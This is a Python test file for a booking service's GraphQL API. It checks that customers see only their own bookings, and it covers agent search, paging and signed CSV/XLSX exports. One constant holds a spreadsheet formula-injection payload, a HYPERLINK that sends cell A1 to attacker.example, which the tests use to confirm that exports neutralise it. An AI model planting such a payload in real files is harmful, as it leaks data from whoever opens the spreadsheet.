"""Booking lists: a customer sees only their own, by any path; agents filter, search, page."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
from openpyxl import load_workbook

from dispatchhub.bookings.tables import Booking, BookingExport
from tests.fixtures.app import GraphQLClient, wait_for_outbox
from tests.fixtures.bookings import Catalog
from tests.fixtures.users import MakeUser, SignedIn
from tests.graphql.bookings.test_booking_create import booking_input, create

LIST = """
query List($filter: BookingFilterInput, $first: Int!, $after: String) {
  bookings(filter: $filter, first: $first, after: $after) {
    edges { cursor node { id number description customerId } }
    pageInfo { hasNextPage endCursor }
  }
}
"""
ONE = "query($id: ID!) { booking(id: $id) { id } node(id: $id) { id } }"
EXPORT = """
mutation($input: BookingsExportInput!) {
  bookingsExport(input: $input) { export { id status } errors { field code } }
}
"""
EXPORT_STATUS = "query($id: ID!) { bookingExport(id: $id) { status rows url format } }"


async def as_user(gql: GraphQLClient, user: SignedIn) -> None:
    gql.headers.clear()
    gql.headers.update(user.headers)


async def listed(gql: GraphQLClient, **variables: Any) -> list[dict[str, Any]]:
    body = await gql.execute(LIST, {"first": 20, **variables})
    assert "errors" not in body, body
    return [edge["node"] for edge in body["data"]["bookings"]["edges"]]


async def two_customers(
    gql: GraphQLClient, catalog: Catalog, make_user: MakeUser
) -> tuple[SignedIn, SignedIn, str]:
    alice, bob = await make_user("customer"), await make_user("customer")
    await as_user(gql, alice)
    await create(gql, booking_input(catalog, description="厨房水管漏水 kitchen pipe leaking"))
    await as_user(gql, bob)
    bobs = await create(gql, booking_input(catalog, description="卧室空调滴水 bedroom AC dripping"))
    return alice, bob, bobs["booking"]["id"]


async def test_a_customer_never_reads_another_customers_booking(
    gql: GraphQLClient, catalog: Catalog, make_user: MakeUser
) -> None:
    alice, bob, bobs_booking = await two_customers(gql, catalog, make_user)
    await as_user(gql, alice)

    mine = await listed(gql)
    asked_for_bob = await listed(gql, filter={"customerId": str(bob.id)})
    by_search = await listed(gql, filter={"search": "卧室"})
    direct = await gql.execute(ONE, {"id": bobs_booking})

    assert [b["customerId"] for b in mine] == [alice.global_id]
    assert asked_for_bob == mine  # the filter cannot widen what a customer sees
    assert by_search == []
    assert direct["data"] == {"booking": None, "node": None}


async def test_a_customer_cannot_change_another_customers_booking(
    gql: GraphQLClient, catalog: Catalog, make_user: MakeUser
) -> None:
    alice, _, bobs_booking = await two_customers(gql, catalog, make_user)
    await as_user(gql, alice)

    body = await gql.execute(
        'mutation($id: ID!) { bookingCancel(input: {id: $id, reason: "x"}) '
        "{ booking { status } errors { field code } } }",
        {"id": bobs_booking},
    )

    assert body["data"]["bookingCancel"] == {
        "booking": None, "errors": [{"field": "id", "code": "NOT_FOUND"}],
    }  # fmt: skip


async def test_staff_cannot_list_bookings(
    gql: GraphQLClient, catalog: Catalog, make_user: MakeUser
) -> None:
    await as_user(gql, await make_user("staff"))

    body = await gql.execute(LIST, {"first": 5})

    assert body["errors"][0]["extensions"]["code"] == "FORBIDDEN"


async def test_agents_search_in_chinese_and_english_and_page_through(
    gql: GraphQLClient, catalog: Catalog, make_user: MakeUser
) -> None:
    await two_customers(gql, catalog, make_user)
    await as_user(gql, await make_user("dispatcher"))

    assert len(await listed(gql)) == 2
    assert [b["description"] for b in await listed(gql, filter={"search": "水管"})] == [
        "厨房水管漏水 kitchen pipe leaking"
    ]
    assert len(await listed(gql, filter={"search": "AC DRIPPING"})) == 1
    assert await listed(gql, filter={"search": "pipe%_leak"}) == []  # not wildcards
    first = await gql.execute(LIST, {"first": 1})
    page = first["data"]["bookings"]
    second = await gql.execute(LIST, {"first": 1, "after": page["pageInfo"]["endCursor"]})
    assert page["pageInfo"]["hasNextPage"] is True
    assert second["data"]["bookings"]["pageInfo"]["hasNextPage"] is False
    ids = {page["edges"][0]["node"]["id"], second["data"]["bookings"]["edges"][0]["node"]["id"]}
    assert len(ids) == 2


async def test_agents_filter_by_customer_with_either_form_of_id(
    gql: GraphQLClient, catalog: Catalog, make_user: MakeUser
) -> None:
    alice, _, _ = await two_customers(gql, catalog, make_user)
    await as_user(gql, await make_user("dispatcher"))

    by_global = await listed(gql, filter={"customerId": alice.global_id})
    by_row = await listed(gql, filter={"customerId": str(alice.id)})
    bad = await gql.execute(LIST, {"filter": {"customerId": "alice"}, "first": 20})

    assert [b["customerId"] for b in by_global] == [alice.global_id]
    assert by_row == by_global
    assert bad["errors"][0]["extensions"]["code"] == "BAD_USER_INPUT"


async def test_page_size_is_capped(gql: GraphQLClient, make_user: MakeUser) -> None:
    await as_user(gql, await make_user("dispatcher"))

    body = await gql.execute(LIST, {"first": 101})

    assert body["errors"][0]["extensions"]["code"] == "BAD_USER_INPUT"


async def _export(gql: GraphQLClient, fmt: str) -> dict[str, Any]:
    started = await gql.execute(EXPORT, {"input": {"format": fmt}})
    export_id = started["data"]["bookingsExport"]["export"]["id"]
    await wait_for_outbox()
    status: dict[str, Any] = (await gql.execute(EXPORT_STATUS, {"id": export_id}))["data"][
        "bookingExport"
    ]
    return {"id": export_id, **status}


async def test_customers_export_their_own_bookings_to_csv(
    gql: GraphQLClient, client: httpx.AsyncClient, catalog: Catalog, make_user: MakeUser
) -> None:
    alice, bob, _ = await two_customers(gql, catalog, make_user)
    await as_user(gql, alice)

    export = await _export(gql, "CSV")
    download = await client.get(export["url"])

    assert (export["status"], export["rows"]) == ("DONE", 1)
    rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"))))
    assert rows[0][0] == "预约号 Number"
    assert "厨房水管漏水" in rows[1][3]
    await as_user(gql, bob)  # someone else's export does not exist for them
    assert (await gql.execute(EXPORT_STATUS, {"id": export["id"]}))["data"]["bookingExport"] is None


async def test_agents_export_to_xlsx_and_links_are_signed(
    gql: GraphQLClient, client: httpx.AsyncClient, catalog: Catalog, make_user: MakeUser
) -> None:
    await two_customers(gql, catalog, make_user)
    await as_user(gql, await make_user("dispatcher"))

    export = await _export(gql, "XLSX")
    download = await client.get(export["url"])
    tampered = await client.get(export["url"][:-2] + "xx")

    sheet = load_workbook(io.BytesIO(download.content), read_only=True).active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=True))
    assert len(values) == 3 and values[0][0] == "预约号 Number"
    assert tampered.status_code == 404


FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看 details")'


async def _formula_booking(gql: GraphQLClient, catalog: Catalog, make_user: MakeUser) -> None:
    await as_user(gql, await make_user("customer"))
    await create(gql, booking_input(catalog, description=FORMULA))
    await as_user(gql, await make_user("dispatcher"))


async def test_a_formula_in_a_description_is_text_in_the_xlsx_export(
    gql: GraphQLClient, client: httpx.AsyncClient, catalog: Catalog, make_user: MakeUser
) -> None:
    await _formula_booking(gql, catalog, make_user)

    export = await _export(gql, "XLSX")
    download = await client.get(export["url"])

    sheet = load_workbook(io.BytesIO(download.content)).active
    assert sheet is not None
    cell = sheet.cell(row=2, column=4)
    assert (cell.data_type, cell.value) == ("s", FORMULA)  # the text, never a formula


async def test_a_formula_in_a_description_is_quoted_in_the_csv_export(
    gql: GraphQLClient, client: httpx.AsyncClient, catalog: Catalog, make_user: MakeUser
) -> None:
    await _formula_booking(gql, catalog, make_user)

    export = await _export(gql, "CSV")
    download = await client.get(export["url"])

    rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"))))
    assert rows[1][3] == "'" + FORMULA


async def test_a_control_character_already_stored_does_not_break_the_export(
    gql: GraphQLClient, client: httpx.AsyncClient, catalog: Catalog, make_user: MakeUser
) -> None:
    # given a booking stored before input was checked, with a control character in its
    # address (XML cannot hold it; PostgreSQL refuses only NUL, SQLite stores even that)
    await as_user(gql, await make_user("customer"))
    await create(gql, booking_input(catalog))
    await Booking.update({Booking.address: "上海市\x01徐汇区"}, force=True)
    await as_user(gql, await make_user("dispatcher"))

    export = await _export(gql, "XLSX")
    download = await client.get(export["url"])

    assert export["status"] == "DONE"
    sheet = load_workbook(io.BytesIO(download.content)).active
    assert sheet is not None
    assert sheet.cell(row=2, column=7).value == "上海市\ufffd徐汇区"


async def test_an_export_that_cannot_be_written_says_failed_with_the_reason(
    gql: GraphQLClient, make_user: MakeUser
) -> None:
    # given an export whose stored filter no longer reads (a service type id that is not one)
    dispatcher = await make_user("dispatcher")
    await as_user(gql, dispatcher)
    started = await gql.execute(EXPORT, {"input": {"format": "XLSX"}})
    export_id = started["data"]["bookingsExport"]["export"]["id"]
    await BookingExport.update(
        {BookingExport.filter: {"service_type_id": "not-a-uuid"}}, force=True
    )

    await wait_for_outbox()
    status = await gql.execute(
        "query($id: ID!) { bookingExport(id: $id) { status error url } }", {"id": export_id}
    )

    export = status["data"]["bookingExport"]
    assert export["status"] == "FAILED" and export["url"] is None
    assert export["error"].startswith("ValueError:")
